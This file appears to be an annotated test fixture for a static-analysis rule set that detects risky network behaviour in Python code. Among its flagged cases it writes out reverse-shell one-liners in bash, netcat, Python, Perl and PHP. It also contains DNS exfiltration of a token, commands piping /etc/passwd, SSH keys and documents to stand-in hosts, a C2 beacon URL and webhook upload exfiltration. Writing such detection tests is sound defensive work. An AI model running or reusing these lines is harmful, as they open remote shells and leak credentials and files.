# Annotated examples for network rules (default set).
import http.server
import os
import pty
import smtplib
import socket
import subprocess
import urllib.parse
import urllib.request
import ftplib
import base64
import binascii
import getpass
import requests
import httpx
from socket import socket as Sock, AF_INET, SOCK_STREAM

# ruleid: AIR-NET-001
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
# ruleid: AIR-NET-001
conn = socket.create_connection(("example.com", 443))
# ruleid: AIR-NET-001
alias_sock = Sock(AF_INET, SOCK_STREAM)
# ok: AIR-NET-001
host = socket.gethostname()

# ruleid: AIR-NET-002
sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
# ok: AIR-NET-002
tcp = socket.SOCK_STREAM

# ruleid: AIR-NET-003
r = requests.get("https://api.example.com/v1/items", timeout=10)
# ruleid: AIR-NET-003
page = urllib.request.urlopen("https://example.com").read()
# ruleid: AIR-NET-003
httpx.post("https://api.example.com/v1/items", json={"a": 1})
# ok: AIR-NET-003
parts = urllib.parse.urlparse("https://example.com/a?b=1")

# ruleid: AIR-NET-004
mail = smtplib.SMTP("mail.example.com", 587)
# ruleid: AIR-NET-004
ftp = ftplib.FTP("ftp.example.com")
# ok: AIR-NET-004
message = "send it with smtplib later"

# ruleid: AIR-NET-005
http.server.HTTPServer(("0.0.0.0", 8000), http.server.SimpleHTTPRequestHandler)
# ok: AIR-NET-005
handler = http.server.SimpleHTTPRequestHandler

secret = open("token.txt").read()
# ruleid: AIR-NET-006
socket.gethostbyname(f"{secret.encode().hex()}.x.example.net")
# ok: AIR-NET-006
socket.gethostbyname("example.com")
# ruleid: AIR-NET-014
socket.gethostbyname(binascii.hexlify(secret.encode()).decode() + ".t.example.net")
# ruleid: AIR-NET-014
socket.getaddrinfo(f"{getpass.getuser()}.{os.getcwd()}".encode().hex() + ".oast.example", 80)
# ok: AIR-NET-014
socket.gethostbyname(socket.gethostname())
# ok: AIR-NET-014
socket.getaddrinfo(os.environ.get("DB_HOST", "localhost"), 5432)

# ruleid: AIR-NET-007
addr = socket.getaddrinfo("example.org", 443)
# ok: AIR-NET-007
fqdn = socket.getfqdn

# ruleid: AIR-NET-008
os.system("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
# ruleid: AIR-NET-008
cmd = "nc -e /bin/sh 203.0.113.7 9001"
# ruleid: AIR-NET-008
subprocess.run("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f", shell=True)
# ruleid: AIR-NET-008
one_liner = "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")"
# ok: AIR-NET-008
doc = "netcat is a network utility"

rs = socket.socket()
rs.connect(("203.0.113.7", 4444))
# ruleid: AIR-NET-009
os.dup2(rs.fileno(), 0)
# ok: AIR-NET-009
os.dup2(3, 1)

# ruleid: AIR-NET-010
subprocess.call(["/bin/sh", "-i"], stdin=rs.fileno(), stdout=rs.fileno(), stderr=rs.fileno())
# ok: AIR-NET-010
subprocess.call(["ls"], stdin=subprocess.DEVNULL)

# ruleid: AIR-NET-011
pty.spawn("/bin/bash")
# ok: AIR-NET-011
tty_name = os.ttyname

# ruleid: AIR-NET-012
C2 = "http://198.51.100.23:8080/beacon"
# ok: AIR-NET-012
LOCAL = "http://127.0.0.1:8000/health"

# ruleid: AIR-NET-013
HOOK = "https://discord.com/api/webhooks/1234/abcd"
# ok: AIR-NET-013
DOCS = "https://docs.python.org/3/"
# ruleid: AIR-NET-013
TUNNEL = "https://quiet-river-1234.trycloudflare.com/upload"
# ruleid: AIR-NET-013
CALLBACK = f"{len(HOOK)}.abc123.oastify.com"
# ruleid: AIR-NET-013
DROP = "https://paste.rs/"
# ok: AIR-NET-013
MIRROR = "https://pypi.org/simple/"

# Methods of objects built by a resolved constructor are not resolved yet.
listener = socket.socket()
# todoruleid: AIR-NET-005
listener.listen(5)

# ruleid: AIR-NET-008
os.system("perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'")
# ruleid: AIR-NET-008
os.system("php -r '$s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'")
# ok: AIR-NET-008
os.system("perl -e 'print 42'")

from selenium import webdriver
from twilio.rest import Client as Twilio
import urllib2

# ruleid: AIR-NET-015
driver = webdriver.Firefox()
# ruleid: AIR-NET-015
sms = Twilio("AC123", "token")
# ruleid: AIR-NET-015
opener = urllib2.build_opener()
# ok: AIR-NET-015
options = webdriver.FirefoxOptions

import requests

TOKEN = "123456:ABC"
# ruleid: AIR-NET-016
requests.post(f"https://api.telegram.org/bot{TOKEN}/sendDocument", files={"document": b"zip"})
# ruleid: AIR-NET-016
requests.post("https://discord.com/api/webhooks/1/abc", files={"file": open("shot.png", "rb")})
# ok: AIR-NET-016
requests.post("https://uploads.example.org/v1/files", files={"file": open("shot.png", "rb")})
# ok: AIR-NET-016
requests.post("https://discord.com/api/webhooks/1/abc", json={"content": "build passed"})

# ruleid: AIR-NET-017
requests.get("http://7jrf4lpexol38j9ye55zvd4dj4pvdl1a.oastify.com/init")
# ok: AIR-NET-017
requests.get("https://docs.example.com/oast-notes")
# ruleid: AIR-NET-017
urllib.request.urlopen("https://iplogger.com/2Abc7")
# ok: AIR-NET-017
urllib.request.urlopen("https://example.com/iplogger-docs")

hidden = base64.b64decode("aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvaG9vaw==")
# ruleid: AIR-NET-018
requests.post(hidden, json={"x": 1})
# ok: AIR-NET-018
requests.post("https://api.example.com/v1", data=base64.b64decode("eA=="))

# ruleid: AIR-NET-019
subprocess.run("cat /etc/passwd | nc 198.51.100.9 9000", shell=True)
# ruleid: AIR-NET-019
os.system("nc -w 3 collector.example 9000 < ~/.ssh/id_rsa")
# ruleid: AIR-NET-019
os.system("tar cz ~/Documents | socat - TCP:198.51.100.9:443")
# ok: AIR-NET-019
subprocess.run(["nc", "-z", "localhost", "5432"])
# ok: AIR-NET-019
os.system("grep -c error app.log | sort -n")

from scapy.all import rdpcap, sniff  # noqa: E402


def show(packet):
    print(packet.summary())


# ruleid: AIR-NET-020
sniff(filter="tcp port 21", prn=show, store=False)
# ok: AIR-NET-020
offline = rdpcap("capture.pcap")
